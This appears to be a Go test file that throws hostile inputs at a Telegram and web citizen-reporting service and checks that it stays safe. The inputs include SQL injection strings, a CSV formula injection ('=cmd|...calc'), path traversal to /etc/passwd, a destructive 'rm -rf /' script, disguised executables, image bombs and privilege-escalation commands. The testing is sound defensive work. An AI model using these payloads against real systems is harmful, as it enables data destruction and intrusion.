				texpect(t, c, "laporan baru dengan isi berikut")
				h.unchanged(t, h.victim, "submitted", 0)
			}},

		// Commands from strangers.
		{id: "H20", channel: "telegram", name: "/verifikasi from a citizen",
			input:  "/verifikasi <victim> in a non-officer's private chat",
			expect: "\"Perintah /verifikasi tidak dikenal\"; audit: /verifikasi, not allowed, \"not an officer\"; the report stays submitted",
			run: func(t *testing.T, h E) {
				h.strangerCommand(t, "verifikasi", "/verifikasi "+h.victim)
				h.unchanged(t, h.victim, "submitted", 0)
			}},
		{id: "H21", channel: "telegram", name: "/identitas from a citizen",
			input:  "/identitas <victim> in a non-officer's private chat",
			expect: "\"Perintah /identitas tidak dikenal\"; audited; the reporter's name appears nowhere in the chat",
			run: func(t *testing.T, h E) {
				c := h.strangerCommand(t, "identitas", "/identitas "+h.victim)
				for _, s := range h.fake.Sent(c.chat) {
					if strings.Contains(s.Text, fmt.Sprintf("Citizen %d", h.victimOwner.chat)) {
						t.Fatalf("the reporter's identity leaked: %q", s.Text)
					}
				}
			}},
		{id: "H22", channel: "telegram", name: "/petugas tambah from a citizen",
			input:  "/petugas tambah <own id> super_admin Peretas",
			expect: "\"Perintah /petugas tidak dikenal\"; audited; no officer is created",
			run: func(t *testing.T, h E) {
				// The citizen names themself (the next chat id) a super admin.
				c := h.strangerCommand(t, "petugas", fmt.Sprintf("/petugas tambah %d super_admin Peretas", h.next+10))
				err := h.db.InTx(context.Background(), func(tx *store.Tx) error {
					_, err := tx.OfficerByUser(context.Background(), "telegram", fmt.Sprint(c.chat))
					return err
				})
				if !errors.Is(err, store.ErrNotFound) {
					t.Fatalf("a citizen made themself an officer: %v", err)
				}
			}},
		{id: "H23", channel: "telegram", name: "/ekspor from a citizen",
			input:  "/ekspor csv in a non-officer's private chat",
			expect: "\"Perintah /ekspor tidak dikenal\"; audited; no file is sent",
			run: func(t *testing.T, h E) {
				c := h.strangerCommand(t, "ekspor", "/ekspor csv")
				hquiet(t, h.db)
				if n := h.documentsTo(c.chat); n != 0 {
					t.Fatalf("%d files sent to a citizen", n)
				}
			}},
		{id: "H24", channel: "telegram", name: "/cetak from a citizen",
			input:  "/cetak <victim> in a non-officer's private chat",
			expect: "\"Perintah /cetak tidak dikenal\"; audited; no PDF is sent",
			run: func(t *testing.T, h E) {
				c := h.strangerCommand(t, "cetak", "/cetak "+h.victim)
				hquiet(t, h.db)
				if n := h.documentsTo(c.chat); n != 0 {
					t.Fatalf("%d files sent to a citizen", n)
				}
			}},
		{id: "H25", channel: "telegram", name: "/kode_grup from a citizen",
			input:  "/kode_grup super_admin in a non-officer's private chat",
			expect: "\"Perintah /kode_grup tidak dikenal\"; audited; no registration code is issued",
			run: func(t *testing.T, h E) {
				c := h.strangerCommand(t, "kode_grup", "/kode_grup super_admin")
				hquiet(t, h.db)
				for _, s := range h.fake.Sent(c.chat) {
					if strings.Contains(s.Text, "Kode pendaftaran") {
						t.Fatalf("a citizen got a desk code: %q", s.Text)
					}
				}
			}},
		{id: "H26", channel: "telegram", name: "officer commands in an unregistered group",
			input:  "/verifikasi <victim> by a stranger and /ekspor csv by the super admin in a group that is no desk",
			expect: "no reply at all; both recorded as \"refused: unknown group\" and audited (unregistered group); the report stays submitted",
			run: func(t *testing.T, h E) {
				const group = -1005555
				u1, _ := h.fake.SendText(group, hStrangerUser, "/verifikasi "+h.victim)
				u2, _ := h.fake.SendText(group, 9001, "/ekspor csv")
				for _, u := range []int{u1, u2} {
					if got := houtcome(t, h.db, "telegram", fmt.Sprint(u)); got != "refused: unknown group" {
						t.Fatalf("outcome %q", got)
					}
				}
				for _, who := range []string{fmt.Sprint(hStrangerUser), "9001"} {
					haudited(t, h.db, "unregistered group command by "+who, func(e store.AuditEntry) bool {
						return e.ChatID == fmt.Sprint(group) && e.UserID == who && !e.Allowed && e.Detail == "unregistered group"
					})
				}
				h.silentIn(t, group, 0)
				h.unchanged(t, h.victim, "submitted", 0)
			}},
		{id: "H27", channel: "telegram", name: "/daftar_grup with a bad code",
			input:  "in a group that is no desk: /daftar_grup AAAAAAAA by a stranger, then by the super admin, then /antrian",
			expect: "\"belum terdaftar sebagai petugas\", then \"Kode pendaftaran tidak berlaku\"; both audited; the group stays no desk (/antrian unanswered)",
			run: func(t *testing.T, h E) {
				const group = -1006666
				g := newCitizen(h.fake, group)
				g.user, g.wait = hStrangerUser, 30*time.Second
				tsay(t, g, "/daftar_grup AAAAAAAA", "belum terdaftar sebagai petugas")
				g.user = 9001
				tsay(t, g, "/daftar_grup AAAAAAAA", "Kode pendaftaran tidak berlaku")
				haudited(t, h.db, "bad code", func(e store.AuditEntry) bool {
					return e.ChatID == fmt.Sprint(group) && e.Action == "daftar_grup" && !e.Allowed && e.Detail == "bad code"
				})
				haudited(t, h.db, "stranger's daftar_grup", func(e store.AuditEntry) bool {
					return e.ChatID == fmt.Sprint(group) && e.Action == "daftar_grup" && !e.Allowed && e.Detail == "not an officer"
				})
				before := len(h.fake.Sent(group))
				u, _ := h.fake.SendText(group, 9001, "/antrian")
				if got := houtcome(t, h.db, "telegram", fmt.Sprint(u)); got != "refused: unknown group" {
					t.Fatalf("the group became a desk: outcome %q", got)
				}
				h.silentIn(t, group, before)
			}},
		{id: "H28", channel: "telegram", name: "a non-officer in a registered desk",
			input:  "a group member who is no officer types /verifikasi <victim> and presses the victim card's Verifikasi in the super admin desk",
			expect: "\"belum terdaftar sebagai petugas\" twice; audited as not an officer; the report stays submitted",
			run: func(t *testing.T, h E) {
				v := hreport(t, h.db, h.victim).Version
				m := newCitizen(h.fake, superGroup)
				m.user, m.wait, m.seen = hStrangerUser, 30*time.Second, len(h.fake.Sent(superGroup))
				tsay(t, m, "/verifikasi "+h.victim, "belum terdaftar sebagai petugas")
				h.forge(t, m, fmt.Sprintf("w|verify|%s|%d|", h.victim, v), "belum terdaftar sebagai petugas")
				haudited(t, h.db, "not an officer in a desk", func(e store.AuditEntry) bool {
					return e.UserID == fmt.Sprint(hStrangerUser) && e.ChatID == fmt.Sprint(superGroup) && e.Detail == "not an officer"
				})
				h.unchanged(t, h.victim, "submitted", v)
				h.super.seen = len(h.fake.Sent(superGroup))
			}},

		// Unicode tricks.
		{id: "H29", channel: "telegram", name: "right-to-left override in a description",
			input:  "\"Jalan \\u202Erusak\\u202C parah …\" (U+202E RIGHT-TO-LEFT OVERRIDE) at the description step",
			expect: "\"Dicatat\"; the stored text has no U+202E or U+202C, the rest unchanged",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				tsay(t, c, "Jalan \u202erusak\u202c parah di depan balai desa sejak Oktober.", "Dicatat")
				d := hconversation(t, h.db, "telegram", h.chatID(c))
				if len(d.Description) != 1 || d.Description[0] != "Jalan rusak parah di depan balai desa sejak Oktober." {
					t.Fatalf("stored %q", d.Description)
				}
			}},
		{id: "H30", channel: "telegram", name: "right-to-left override in the reporter's name",
			input:  "the citizen's Telegram name is \"Budi\\u202E ukuB\" when they press Kirim (a raw callback from that name)",
			expect: "the report is filed; the desk card names the reporter without U+202E, as descriptions are cleaned",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				tsay(t, c, "Sampah menumpuk di depan pasar Plaosan sejak tiga hari lalu.", "Dicatat")
				tpress(t, c, "what:next", "Kapan")
				tpress(t, c, "when:today", "Di mana")
				tsay(t, c, "Jl. Raya Plaosan No. 3", "pilih kecamatan lain")
				tpressPrefix(t, c, "kec:", "", "Bukti")
				tpress(t, c, "ev:done", "Sembunyikan identitas")
				ask := tpress(t, c, "anon:no", "nama Anda")
				// They take their account's name, as Telegram sends it.
				h.fake.AddRawUpdate([]byte(fmt.Sprintf(`{"callback_query":{"id":"5000","chat_instance":"1","data":"name:profile",`+
					`"from":{"id":%d,"is_bot":false,"first_name":"Budi\u202e ukuB"},`+
					`"message":{"message_id":%d,"date":%d,"chat":{"id":%d,"type":"private"},"text":"nama"}}}`,
					c.chat, ask.MessageID, time.Now().Unix(), c.chat)))
				texpect(t, c, "telepon atau alamat e-mail")
				tpress(t, c, "contact:skip", "Rahasiakan")
				summary := tpress(t, c, "conf:yes", "Ringkasan")
				h.fake.AddRawUpdate([]byte(fmt.Sprintf(`{"callback_query":{"id":"5001","chat_instance":"1","data":"sum:send",`+
					`"from":{"id":%d,"is_bot":false,"first_name":"Budi\u202e ukuB"},`+
					`"message":{"message_id":%d,"date":%d,"chat":{"id":%d,"type":"private"},"text":"Ringkasan"}}}`,
					c.chat, summary.MessageID, time.Now().Unix(), c.chat)))
				id := trackingRE.FindString(texpect(t, c, "Nomor laporan: ").Text)
				card := texpect(t, h.super, id)
				if !strings.Contains(card.Text, "Budi") {
					t.Fatalf("the card does not name the reporter: %q", card.Text)
				}
				if strings.ContainsRune(card.Text, '\u202e') {
					t.Fatalf("the desk card carries a right-to-left override from the reporter's name: %q", card.Text)
				}
			}},
		{id: "H31", channel: "telegram", name: "zero-width characters inside a tracking number",
			input:  "the victim's reporter sends /status MGT-\\u200B7K3\\u200DQFA-style (ZWSP, ZWJ, ZWNJ inside the number)",
			expect: "the status of the report (\"Status: Belum Terverifikasi\"), as if typed plainly",
			run: func(t *testing.T, h E) {
				code := strings.TrimPrefix(h.victim, "MGT-")
				hidden := "MGT-\u200b" + code[:2] + "\u200d" + code[2:4] + "\u200c" + code[4:]
				tsay(t, h.victimOwner, "/status "+hidden, "Status: Belum Terverifikasi")
			}},
		{id: "H32", channel: "telegram", name: "Cyrillic homoglyphs in a tracking number",
			input:  "the victim's reporter sends /status with the number's Latin letters replaced by Cyrillic look-alikes",
			expect: "\"tidak ditemukan\": no folding onto a real report, nothing of the report shown",
			run: func(t *testing.T, h E) {
				fake := homoglyphs.Replace(h.victim) // M and T of the prefix always change
				got := tsay(t, h.victimOwner, "/status "+fake, "Laporan")
				if !strings.Contains(got.Text, "tidak ditemukan") && !strings.Contains(got.Text, "bukan nomor laporan yang sah") || strings.Contains(got.Text, "Status:") {
					t.Fatalf("homoglyph number answered %q", got.Text)
				}
			}},
		{id: "H33", channel: "telegram", name: "NUL bytes in a text",
			input:  "\"Jalan\\u0000rusak …\" at the description step (a NUL inside the text)",
			expect: "\"Dicatat\" with the NUL removed; every other chat is served as before",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				tsay(t, c, "Jalan\x00rusak parah di depan balai desa sejak Oktober lalu.", "Dicatat")
				other := h.citizen()
				tsay(t, other, "/start", "Selamat datang")
				if d := hconversation(t, h.db, "telegram", h.chatID(c)); len(d.Description) != 1 || strings.ContainsRune(d.Description[0], 0) {
					t.Fatalf("stored %q", d.Description)
				}
			}},
		{id: "H34", channel: "telegram", name: "invalid UTF-8 and lone surrogates in a raw update",
			input:  "AddRawUpdate text with raw bytes 0xFF 0xFE and the escape \\uD800 at the description step",
			expect: "\"Dicatat\"; the stored description is valid UTF-8 (the bad bytes become U+FFFD)",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				h.fake.AddRawUpdate(rawMessage(c.chat, 900031, "Jalan rusak \xff\xfe parah di depan balai desa \\ud800 sejak Oktober."))
				texpect(t, c, "Dicatat")
				d := hconversation(t, h.db, "telegram", h.chatID(c))
				if len(d.Description) != 1 || !utf8.ValidString(d.Description[0]) || !strings.Contains(d.Description[0], "balai desa") {
					t.Fatalf("stored %q", d.Description)
				}
			}},
		{id: "H35", channel: "telegram", name: "emoji-only description",
			input:  "\"😡😡😡\" as the whole description, then Lanjut",
			expect: "\"Dicatat (3 karakter)\", then \"masih terlalu singkat (3 karakter, minimal 30)\"",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				tsay(t, c, "😡😡😡", "Dicatat (3 karakter)")
				tpress(t, c, "what:next", "masih terlalu singkat (3 karakter, minimal 30)")
			}},
		{id: "H36", channel: "telegram", name: "combining characters (Zalgo text)",
			input:  "40 letters each carrying 20 combining marks (840 characters)",
			expect: "\"Dicatat (840 karakter)\"; stored exactly as sent",
			run: func(t *testing.T, h E) {
				var b strings.Builder
				for i := 0; i < 40; i++ {
					b.WriteByte("saluranrusak"[i%12])
					for j := 0; j < 20; j++ {
						b.WriteRune(rune(0x0300 + (i+j)%0x6f))
					}
				}
				zalgo := b.String()
				c := h.citizen()
				h.startDraft(t, c)
				tsay(t, c, zalgo, "Dicatat (840 karakter)")
				if d := hconversation(t, h.db, "telegram", h.chatID(c)); len(d.Description) != 1 || d.Description[0] != zalgo {
					t.Fatal("the combining characters were not kept as sent")
				}
			}},

		// Injection strings.
		{id: "H37", channel: "telegram", name: "SQL injection as a description",
			input:  "\"'; DROP TABLE reports;-- …\" as the description of a filed report",
			expect: "the report is filed with the text verbatim; one more report in the table; the victim report still reads",
			run: func(t *testing.T, h E) {
				before := hreportCount(t, h.db)
				desc := "'; DROP TABLE reports;-- \" OR 1=1; saluran air tersumbat di depan rumah"
				id := h.file(t, h.citizen(), desc, nil)
				if r := hreport(t, h.db, id); r.Description != desc {
					t.Fatalf("stored %q", r.Description)
				}
				if n := hreportCount(t, h.db); n != before+1 {
					t.Fatalf("%d reports, want %d", n, before+1)
				}
				h.unchanged(t, h.victim, "submitted", 0)
			}},
		{id: "H38", channel: "telegram", name: "SQL injection as a /status argument",
			input:  "/status '; DROP TABLE reports;-- and /status ';DROP/**/TABLE/**/reports;--",
			expect: "\"bukan nomor laporan yang sah\", then \"tidak ditemukan\"; the reports table unchanged",
			run: func(t *testing.T, h E) {
				before := hreportCount(t, h.db)
				c := h.citizen()
				tsay(t, c, "/status '; DROP TABLE reports;--", "bukan nomor laporan yang sah")
				tsay(t, c, "/status ';DROP/**/TABLE/**/reports;--", "tidak ditemukan")
				if n := hreportCount(t, h.db); n != before {
					t.Fatalf("%d reports, want %d", n, before)
				}
				h.unchanged(t, h.victim, "submitted", 0)
			}},
		{id: "H39", channel: "telegram", name: "HTML and Markdown markup in a description",
			input:  "\"<b>tebal</b> <a href=\\\"tg://user?id=1\\\">klik</a> *bintang* _miring_ `kode` …\" as a filed report's description",
			expect: "shown literally in the summary and the desk card; no message is sent with a parse_mode; the Bot API refuses nothing",
			run: func(t *testing.T, h E) {
				markup := `<b>tebal</b> <a href="tg://user?id=1">klik</a> *bintang* _miring_ ` + "`kode`" + ` [x](http://evil.example) &amp; saluran rusak`
				c := h.citizen()
				id := h.file(t, c, markup, nil)
				found := false
				for _, s := range h.fake.Sent(c.chat) {
					found = found || strings.Contains(s.Text, markup)
				}
				if !found {
					t.Fatal("the summary does not show the markup literally")
				}
				card := texpect(t, h.super, id)
				if !strings.Contains(card.Text, markup) {
					t.Fatalf("the desk card changed the markup: %q", card.Text)
				}
				for _, s := range h.fake.AllSent() {
					if s.ParseMode != "" {
						t.Fatalf("a message was sent with parse_mode %q", s.ParseMode)
					}
				}
			}},
		{id: "H40", channel: "telegram", name: "path traversal in a document's file name",
			input:  "a document named ../../etc/passwd (text) at the description step",
			expect: "\"Bukti ke-1 diterima: ../../etc/passwd\"; kept in the database with its bytes (attachments never touch the file system)",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				data := []byte("root:x:0:0:root:/root:/bin/bash\n")
				h.fake.SendDocument(c.chat, c.user, "../../etc/passwd", "text/plain", data, "")
				texpect(t, c, "Bukti ke-1 diterima: ../../etc/passwd")
				d := hconversation(t, h.db, "telegram", h.chatID(c))
				if len(d.Attachments) != 1 {
					t.Fatalf("attachments %+v", d.Attachments)
				}
				a := hmust(h.db.Attachment(context.Background(), d.Attachments[0].ID)).of(t)
				stored := hmust(h.db.ReadBlob(context.Background(), a.BlobID)).of(t)
				if !bytes.Equal(stored, data) || a.OriginalName != "../../etc/passwd" {
					t.Fatalf("stored %q %q", a.OriginalName, stored)
				}
			}},
		{id: "H41", channel: "telegram", name: "CSV formula in a description",
			input:  "a report whose description starts with =cmd|' /C calc'!A0, then /ekspor csv by the super admin in a private chat",
			expect: "the export's Uraian cell starts with an apostrophe: '=cmd|' /C calc'!A0 …",
			run: func(t *testing.T, h E) {
				desc := "=cmd|' /C calc'!A0 saluran air tersumbat di depan rumah warga"
				h.file(t, h.citizen(), desc, nil)
				before := h.documentsTo(h.superPrivate.chat)
				tsay(t, h.superPrivate, "/ekspor csv", "Ekspor")
				var doc []byte
				hwait(t, "the CSV export", func() bool {
					sent := h.fake.Sent(h.superPrivate.chat)
					n := 0
					for _, s := range sent {
						if len(s.FileData) > 0 {
							if n++; n > before {
								doc = s.FileData
								return true
							}
						}
					}
					return false
				})
				rows := hmust(csv.NewReader(bytes.NewReader(bytes.TrimPrefix(doc, []byte("\ufeff")))).ReadAll()).of(t)
				col := -1
				for i, name := range rows[0] {
					if name == "Uraian" {
						col = i
					}
				}
				if col < 0 {
					t.Fatalf("no Uraian column in %q", rows[0])
				}
				found := false
				for _, row := range rows[1:] {
					if strings.Contains(row[col], "cmd|") {
						found = true
						if !strings.HasPrefix(row[col], "'=cmd|") {
							t.Fatalf("the formula is not neutralised: %q", row[col])
						}
					}
				}
				if !found {
					t.Fatal("the report is not in the export")
				}
			}},

		// File-type lies.
		{id: "H42", channel: "telegram", name: "photo.jpg that is a Linux program",
			input:  "a document photo.jpg, image/jpeg, whose bytes start with \\x7fELF",
			expect: "\"tidak dapat kami terima karena jenisnya (Linux program)\"; nothing stored",
			run:    func(t *testing.T, h E) { h.refusedFile(t, "photo.jpg", "image/jpeg", elfBytes, "Linux program") }},
		{id: "H43", channel: "telegram", name: "photo.jpg that is a Windows program",
			input:  "a document photo.jpg, image/jpeg, whose bytes start with MZ",
			expect: "\"tidak dapat kami terima karena jenisnya (Windows program)\"; nothing stored",
			run:    func(t *testing.T, h E) { h.refusedFile(t, "photo.jpg", "image/jpeg", exeBytes, "Windows program") }},
		{id: "H44", channel: "telegram", name: "photo.jpg that is a ZIP archive",
			input:  "a document photo.jpg, image/jpeg, whose bytes are a ZIP (PK\\x03\\x04) holding payload.exe",
			expect: "refused as evidence with a reason (the content is not the image its name and type claim)",
			run: func(t *testing.T, h E) {
				h.refusedFile(t, "photo.jpg", "image/jpeg", zipBytes, "isinya arsip terkompresi")
			}},
		{id: "H45", channel: "telegram", name: "photo.jpg that is an HTML page",
			input:  "a document photo.jpg, image/jpeg, whose bytes are an HTML page with a script",
			expect: "refused as evidence with a reason (the content is not the image its name and type claim)",
			run: func(t *testing.T, h E) {
				h.refusedFile(t, "photo.jpg", "image/jpeg", htmlBytes, "isinya halaman web")
			}},
		{id: "H46", channel: "telegram", name: "image bytes in a document without an image type (a JPEG with GPS as \"surat\")",
			input:  "a document surat (no extension), application/octet-stream, whose bytes are a JPEG carrying an EXIF GPS position, in a filed report",
			expect: "accepted as evidence; the copy the super admin desk receives carries no GPS (images lose their metadata before desks see them, by content, not by name)",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				id := h.file(t, c, "Foto saluran tersumbat terlampir sebagai dokumen PDF dari kantor desa.", func() {
					h.fake.SendDocument(c.chat, c.user, "surat", "application/octet-stream", jpegWithGPS(t), "")
					texpect(t, c, "Bukti ke-1 diterima: surat")
				})
				att := texpect(t, h.super, "Lampiran "+id)
				if len(att.FileData) == 0 {
					t.Fatalf("the desk got no file: %s %q", att.Method, att.Caption)
				}
				if hasGPS(att.FileData) || media.HasLocation(att.FileData) {
					t.Fatal("the copy sent to the super admin desk still carries the GPS position")
				}
			}},
		{id: "H47", channel: "telegram", name: "script disguised as text",
			input:  "a document laporan.txt, text/plain, whose bytes start with #!/bin/sh",
			expect: "\"tidak dapat kami terima karena jenisnya (script)\"; nothing stored",
			run: func(t *testing.T, h E) {
				h.refusedFile(t, "laporan.txt", "text/plain", []byte("#!/bin/sh\nrm -rf / --no-preserve-root\n"), "script")
			}},

		// Floods.
		{id: "H48", channel: "telegram", name: "flood from one chat",
			input:  fmt.Sprintf("45 texts at once from one chat (limit %d a minute) while another chat files a report", hFloodLimit),
			expect: fmt.Sprintf("the other chat gets its tracking number; the flooding chat gets its first %d answers and exactly one \"terlalu banyak pesan\" notice; the other 25 are recorded \"refused: flood\"", hFloodLimit),
			run: func(t *testing.T, h E) {
				f := h.citizen()
				var updates []int
				for i := 0; i < 45; i++ {
					u, _ := h.fake.SendText(f.chat, f.user, fmt.Sprintf("pesan ke-%d", i+1))
					updates = append(updates, u)
				}
				other := h.citizen()
				id := h.file(t, other, "Sampah menumpuk di pinggir jalan raya dekat pasar sejak seminggu.", nil)
				if id == "" {
					t.Fatal("the other chat got no tracking number")
				}
				var refused int
				for i, u := range updates {
					got := houtcome(t, h.db, "telegram", fmt.Sprint(u))
					switch {
					case i < hFloodLimit && got != "handled":
						t.Errorf("message %d: outcome %q, want handled", i+1, got)
					case i >= hFloodLimit && got != "refused: flood":
						t.Errorf("message %d: outcome %q, want refused: flood", i+1, got)
					case i >= hFloodLimit:
						refused++
					}
				}
				hquiet(t, h.db)
				notices, answers := 0, 0
				for _, s := range h.fake.Sent(f.chat) {
					switch {
					case strings.Contains(s.Text, "terlalu banyak pesan"):
						notices++
					case strings.Contains(s.Text, "Ceritakan langsung apa yang ingin Anda laporkan"):
						answers++
					}
				}
				if notices != 1 || answers != hFloodLimit || refused != 45-hFloodLimit {
					t.Fatalf("flooding chat: %d notices, %d answers, %d refused; want 1, %d, %d", notices, answers, refused, hFloodLimit, 45-hFloodLimit)
				}
			}},

		// Image bombs: small files declaring huge images (helpers in
		// hostile_images_test.go).
		{id: "H76", channel: "telegram", name: "PNG declaring 30000×30000 pixels, printed",
			input:  "evidence: a photo, then a document bom.png (image/png, under 1 KB) whose IHDR declares 30000×30000 8-bit RGBA (3.6 GB decoded) and one row of data; the super admin sends /cetak <ID>",
			expect: "the desk's card comes with the bomb withheld (\"gambar tidak ditampilkan: ukurannya terlalu besar untuk diperiksa\"); the PDF comes with the photo's thumbnail and, instead of the bomb's, the line \"bom.png: gambar terlalu besar untuk dicetak\"; nothing decodes it",
			run: func(t *testing.T, h E) {
				id := h.fileBomb(t, "bom.png", "image/png", bombPNG8)
				h.printBomb(t, id, "bom.png")
			}},
		{id: "H77", channel: "telegram", name: "16-bit PNG declaring 30000×30000 pixels, printed",
			input:  "as H76 with bom16.png: 16-bit RGBA (7.2 GB decoded; before the decode gate this crashed the process: fatal error: out of memory)",
			expect: "as H76: the PDF comes with \"bom16.png: gambar terlalu besar untuk dicetak\"; the service stays up",
			run: func(t *testing.T, h E) {
				id := h.fileBomb(t, "bom16.png", "image/png", bombPNG16)
				h.printBomb(t, id, "bom16.png")
			}},
		{id: "H78", channel: "telegram", name: "JPEG declaring 65535×65535 pixels, printed",
			input:  "as H76 with bom.jpg (image/jpeg, under 1 KB): a progressive 4:4:4 frame of 65535×65535 (64 GB decoded: pixels and coefficients) and one block of data",
			expect: "as H76: the PDF comes with \"bom.jpg: gambar terlalu besar untuk dicetak\"",
			run: func(t *testing.T, h E) {
				id := h.fileBomb(t, "bom.jpg", "image/jpeg", bombJPEG)
				h.printBomb(t, id, "bom.jpg")
			}},
		{id: "H79", channel: "telegram", name: "image bomb printed on the command line",
			input:  "a report with a photo and bom16.png (as H77), printed with `lapor print <ID> --out <file>`",
			expect: "exit 0; the file is the PDF with the photo's thumbnail and \"bom16.png: gambar terlalu besar untuk dicetak\"",
			run: func(t *testing.T, h E) {
				id := h.fileBomb(t, "bom16.png", "image/png", bombPNG16)
				h.printBombCommandLine(t, id, "bom16.png")
			}},

		// Replayed update ids. Last: it restarts the service.
		{id: "H49", channel: "telegram", name: "replayed updates",
			input:  "a citizen files a report; the service restarts and Telegram redelivers every update of that conversation",
			expect: "each update is handled once: no second report, no new reply, the same conversation; a new message afterwards is answered normally",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				first, _ := h.fake.SendText(c.chat, c.user, "/bantuan")
				texpect(t, c, "Cara menggunakan layanan ini")
				h.file(t, c, "Pipa PDAM bocor di gang tiga, air terbuang sejak kemarin pagi.", nil)
				last, _ := h.fake.SendText(c.chat, c.user, "/laporan")
				texpect(t, c, "Laporan Anda")
				hquiet(t, h.db)
				h.stop()
				before := hconversation(t, h.db, "telegram", h.chatID(c))
				var reports int
				_ = h.db.InTx(context.Background(), func(tx *store.Tx) error {
					rs, err := tx.ReportsByChat(context.Background(), "telegram", h.chatID(c), 10)
					reports = len(rs)
					return err
				})
				sentBefore := len(h.fake.Sent(c.chat))
				for u := first; u <= last; u++ {
					if !h.fake.Redeliver(u) {
						t.Fatalf("update %d could not be redelivered", u)
					}
				}
				logs, _ := startInProcess(t, h.env)
				h.logs = logs
				hwait(t, "the redelivered updates confirmed", func() bool { return h.fake.Pending() == 0 })
				c.seen = sentBefore
				tsay(t, c, "/laporan", "Laporan Anda")
				hquiet(t, h.db)
				if n := len(h.fake.Sent(c.chat)); n != sentBefore+1 {
					t.Fatalf("%d messages after the replay, want only the answer to the new /laporan", n-sentBefore)
				}
				after := hconversation(t, h.db, "telegram", h.chatID(c))
				if after.Step != before.Step || len(after.Description) != len(before.Description) {
					t.Fatalf("conversation changed: %+v → %+v", before, after)
				}
				_ = h.db.InTx(context.Background(), func(tx *store.Tx) error {
					rs, err := tx.ReportsByChat(context.Background(), "telegram", h.chatID(c), 10)
					if len(rs) != reports || reports != 1 {
						t.Errorf("%d reports after the replay, %d before; want 1", len(rs), reports)
					}
					return err
				})
			}},
	}
}

// strangerCommand sends an officer's command from a new non-officer's
// private chat and checks the refusal and its audit line.
func (h *tgHostile) strangerCommand(t *testing.T, cmd, text string) *citizen {
	t.Helper()
	c := h.citizen()
	tsay(t, c, text, "Perintah /"+cmd+" tidak dikenal")
	haudited(t, h.db, "/"+cmd+" refused", func(e store.AuditEntry) bool {
		return e.Action == "/"+cmd && !e.Allowed && e.UserID == fmt.Sprint(c.chat) && e.Detail == "not an officer"
	})
	return c
}

// refusedFile sends a file at the description step and expects it refused
// with why, and nothing stored.
func (h *tgHostile) refusedFile(t *testing.T, name, mime string, data []byte, why string) {
	t.Helper()
	c := h.citizen()
	h.startDraft(t, c)
	h.fake.SendDocument(c.chat, c.user, name, mime, data, "")
	got := texpect(t, c, name)
	if !strings.Contains(got.Text, "tidak dapat kami terima") || !strings.Contains(got.Text, why) {
		t.Fatalf("the file was not refused as %q: %q", why, got.Text)
	}
	if d := hconversation(t, h.db, "telegram", h.chatID(c)); len(d.Attachments) != 0 {
		t.Fatalf("the refused file was stored: %+v", d.Attachments)
	}
}

func utf16Units(s string) int {
	n := 0
	for _, r := range s {
		if r >= 0x10000 {
			n += 2
		} else {
			n++
		}
	}
	return n
}

// ---------------------------------------------------------------- web chat

// webHostile is the web group's service: the web chat alone, with a 1 MB
// file limit. Every browser comes from 127.0.0.1, which may send 120
// messages a minute and try 5 wrong sign-in codes: the cases stay within.
type webHostile struct {
	env  map[string]string
	db   *store.DB
	logs *syncBuffer
}

func TestHostileWeb(t *testing.T) {
	t.Parallel()
	env := webEnv(t, pg.NewDatabase(t))
	env["LAPOR_MAX_FILE_MB"] = "1"
	logs, _ := startInProcess(t, env)
	db := hmust(store.Open(context.Background(), env["LAPOR_DATABASE_URL"], nil)).of(t)
	t.Cleanup(db.Close)
	w := &webHostile{env: env, db: db, logs: logs}
	runHostile(t, w, w.healthy, webHostileCases())
}

func (w *webHostile) healthy(t *testing.T) {
	t.Helper()
	hready(t, w.env["LAPOR_HTTP_ADDR"])
	if strings.Contains(w.logs.String(), "panic") {
		t.Errorf("a panic was logged:\n%s", w.logs)
	}
}

func (w *webHostile) browser(t *testing.T) *browser {
	return newBrowser(t, w.env["LAPOR_HTTP_ADDR"], nil)
}

// raw sends a request with the browser's cookies and whatever headers and
// body the case forges.
func (w *webHostile) raw(t *testing.T, b *browser, method, path, contentType string, body []byte, headers map[string]string) (int, string, http.Header) {
	t.Helper()
	req, _ := http.NewRequest(method, "http://"+w.env["LAPOR_HTTP_ADDR"]+path, bytes.NewReader(body))
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	client := &http.Client{Timeout: 30 * time.Second}
	if b != nil {
		client.Jar = b.client.Jar
	}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(out), resp.Header
}

// postRaw posts body as JSON with the session's CSRF token.
func (w *webHostile) postRaw(t *testing.T, b *browser, path, body string) (int, string) {
	t.Helper()
	code, out, _ := w.raw(t, b, "POST", path, "application/json", []byte(body), map[string]string{"X-CSRF-Token": b.csrf})
	return code, out
}

func wantStatus(t *testing.T, what string, code int, body string, wantCode int, wantText string) {
	t.Helper()
	if code != wantCode || !strings.Contains(body, wantText) {
		t.Fatalf("%s: %d %s; want %d with %q", what, code, body, wantCode, wantText)
	}
}

// toDescription takes a browser to the description step.
func toDescription(b *browser) {
	b.say("/start", "Selamat datang")
	b.press("menu:new", "Jenis laporan")
	b.press("type:pengaduan", "Uraian")
}

// mine returns the browser's own messages so far (what the transcript
// echoed), to check a refused request left no trace.
func (b *browser) mine() []webMsg {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []webMsg
	for _, m := range b.got {
		if m.From == "me" {
			out = append(out, m)
		}
	}
	return out
}

// onlyEcho sends /start and checks the transcript then holds that alone:
// the requests refused before it left no message.
func onlyEcho(t *testing.T, b *browser) {
	t.Helper()
	b.say("/start", "Selamat datang")
	if mine := b.mine(); len(mine) != 1 || mine[0].Text != "/start" {
		t.Fatalf("refused requests left messages: %+v", mine)
	}
}

// sseData reads the raw data lines of the browser's event stream until
// done accepts them (or 30 s pass).
func sseData(t *testing.T, b *browser, done func([]string) bool) []string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
